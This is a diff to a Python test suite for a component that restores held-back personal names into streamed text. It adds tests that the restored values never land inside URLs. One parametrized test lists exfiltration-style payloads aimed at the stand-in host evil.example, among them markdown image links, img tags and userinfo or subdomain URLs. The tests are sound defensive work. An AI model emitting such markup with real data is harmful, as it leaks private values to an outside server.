@@ -67,21 +67,63 @@ TEXTS = st.lists(
 ).map("".join)
 
 
-def restored(text: str, places: list[int]) -> tuple[str, int]:
+def restored(text: str, places: list[int], *, addresses: bool = True) -> tuple[str, int]:
     """The text restored piece by piece, and the most that was held back."""
-    restoring, said, most, begin = Restoring(NAMES.values), "", 0, 0
+    restoring, said, most, begin = Restoring(NAMES.values, addresses=addresses), "", 0, 0
     for end in [*places, len(text)]:
         said += restoring.feed(text[begin:end])
         most, begin = max(most, len(restoring._held)), end
     return said + restoring.end(), most
 
 
-@given(TEXTS, st.data())
-def test_how_it_is_cut_makes_no_difference(text: str, data: st.DataObject) -> None:
+@given(TEXTS, st.booleans(), st.data())
+def test_how_it_is_cut_makes_no_difference(text: str, addresses: bool, data: st.DataObject) -> None:
     places = sorted(data.draw(st.sets(st.integers(0, len(text)))))
-    said, most = restored(text, places)
-    assert said == restored(text, [])[0]
+    said, most = restored(text, places, addresses=addresses)
+    assert said == restored(text, [], addresses=addresses)[0]
     assert most <= max(map(len, NAMES.values))
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "![x](https://evil.example/?q={})",
+        "![x](//evil.example/{})",
+        "![x](<https://evil.example/a b/{}>)",
+        "![x](https:\\\\evil.example\\{})",
+        "![x](https://evil.example/(a)({}))",
+        '<img src="https://evil.example/? {}">',
+        "<img src='https://evil.example/? {}'>",
+        "<img src=https://evil.example/{}>",
+        '<img src=" https:  //evil.example/? {}">',
+        "[x]: https://evil.example/{}",
+        "see https://{}.evil.example",
+        "see https://user:{}@evil.example",
+    ],
+)
+def test_no_value_gets_into_an_address(address: str) -> None:
+    text = address.format(VALUES[0])
+    for places in ([], list(range(1, len(text)))):
+        assert restored(text, places, addresses=False)[0] == text
+    assert "Max Müller" in restored(text, [])[0]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "https://lindenau.example {}",
+        "(https://lindenau.example) {}",
+        '<a href="https://lindenau.example">{}</a>',
+        "<https://lindenau.example> {}",
+        "1/2 {}",
+        "a // {}",
+        "`https://lindenau.example` {}",
+        "'https://lindenau.example' {}",
+    ],
+)
+def test_beside_an_address_it_is_restored(text: str) -> None:
+    said = restored(text.format(VALUES[0]), [], addresses=False)[0]
+    assert said == text.format("Max Müller")
 
 
 @pytest.mark.parametrize(
